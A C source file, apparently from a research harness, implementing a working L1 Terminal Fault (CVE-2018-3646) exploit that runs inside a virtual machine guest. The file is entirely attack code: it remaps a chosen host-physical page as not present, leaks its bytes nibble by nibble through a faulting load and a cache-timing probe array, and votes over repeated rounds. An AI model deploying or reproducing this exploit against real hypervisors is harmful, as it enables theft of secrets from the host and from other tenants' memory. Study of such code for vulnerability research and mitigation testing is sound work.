// L1 Terminal Fault from inside a guest (CVE-2018-3646): a page-table entry of the guest's own that is not present names a
// host-physical frame. The faulting load is not translated further; if that line lies in this core's L1D, its bytes reach the
// instructions behind the load before the fault is taken. They index a probe array of ours, whose lines we then time.
//
// Command line: secret=0x<host-physical address> length=<bytes> rounds=<how many preemptions to wait for>
#include "../lib/idt.h"
#include "attack.h"

#define MAX_LENGTH 64
#define PRESENT 1
#define WRITE 2
#define WINDOW 0x8000000000 // PML4 entry 1: nothing else is there
#define PREEMPTED 1000 // cycles between two looks at the clock that a VM exit alone explains

static uint64_t window_pud[512] __attribute__((aligned(PAGE)));
static uint64_t window_pmd[512] __attribute__((aligned(PAGE)));
static uint64_t window_pte[512] __attribute__((aligned(PAGE)));
static uint8_t probe[16 * LINE] __attribute__((aligned(PAGE)));
static struct guess guesses[MAX_LENGTH];

/** Maps the page of the secret, not present, at WINDOW. */
static void open_window(uint64_t physical)
{
	uint64_t pml4;
	__asm__ volatile("movq %%cr3, %0" : "=r"(pml4));
	((uint64_t *)(pml4 & ~0xfffull))[1] = (uint64_t)window_pud | PRESENT | WRITE;
	window_pud[0] = (uint64_t)window_pmd | PRESENT | WRITE;
	window_pmd[0] = (uint64_t)window_pte | PRESENT | WRITE;
	window_pte[0] = (physical & ~0xfffull) | WRITE;
	fence();
}

/** Loads the byte at `address`, which faults, and touches the probe line of one of its nibbles in the shadow of the fault. */
static void __attribute__((noinline)) leak(const volatile uint8_t *address, uint64_t shift)
{
	__asm__ volatile("leaq 1f(%%rip), %%rax\n\t"
			 "movq %%rax, resume_at\n\t"
			 "mfence\n\tlfence\n\t"
			 "movzbl (%0), %%eax\n\t"
			 "shrl %%cl, %%eax\n\t"
			 "andl $15, %%eax\n\t"
			 "shll $6, %%eax\n\t"
			 "movb (%2,%%rax), %%al\n\t"
			 "1:\n\t"
			 :
			 : "r"(address), "c"(shift), "r"(probe)
			 : "rax", "memory", "cc");
}

/** The one probe line that is cached now, or -1 if none or several are. */
static int hot_line(uint64_t threshold)
{
	int hot = -1;
	for (int i = -1; i < 16; i++) {
		int line = (i * 7 + 5) & 15; // not in order: nothing shall run ahead of us
		// The first time is not a probe: it pays for the code's own way into the caches.
		uint64_t time = load_time(i < 0 ? (const uint8_t *)guesses : probe + line * LINE);
		if (i >= 0 && time < threshold)
			hot = hot == -1 ? line : -2;
	}
	return hot < 0 ? -1 : hot;
}

/** Halfway between a load that hits and one that was flushed. */
static uint64_t measure_threshold(void)
{
	uint64_t hit = 0, miss = 0;
	for (int i = 0; i < 16; i++) {
		touch(probe);
		fence();
		hit += load_time(probe);
		flush(probe);
		fence();
		miss += load_time(probe);
	}
	return (hit + miss) / 32;
}

/** Spins until the host has taken the CPU away for a while: somebody else ran here. */
static void wait_for_preemption(void)
{
	uint64_t before = timestamp();
	for (;;) {
		uint64_t now = timestamp();
		if (now - before > PREEMPTED)
			return;
		before = now;
	}
}

int main(uint64_t memory_bytes, const char *command_line)
{
	(void)memory_bytes;
	uint64_t physical = argument(command_line, "secret", 0);
	int length = (int)argument(command_line, "length", 32);
	int rounds = (int)argument(command_line, "rounds", 12);
	if (length < 1 || length > MAX_LENGTH) {
		put_text("l1tf: length must be 1 to 64\n");
		return 2;
	}
	idt_load();
	open_window(physical);
	for (int i = 0; i < 16; i++)
		probe[i * LINE] = 1; // present and ours before anything is timed
	uint64_t threshold = measure_threshold();
	const volatile uint8_t *window = (const volatile uint8_t *)(WINDOW + (physical & (PAGE - 1)));

	for (int round = 0; round < rounds; round++) {
		wait_for_preemption();
		leak(window, 0); // not counted: it pays for the way of code and tables back into caches and TLBs
		settle();
		for (int i = 0; i < length; i++) {
			for (int half = 0; half < 2; half++) {
				for (int line = 0; line < 16; line++)
					flush(probe + line * LINE);
				fence();
				leak(window + i, (uint64_t)half * 4);
				settle();
				int nibble = hot_line(threshold);
				if (nibble >= 0 && guesses[i].votes[half][nibble] < 255)
					guesses[i].votes[half][nibble]++;
			}
		}
	}
	report(guesses, length, 2);
	return 0;
}
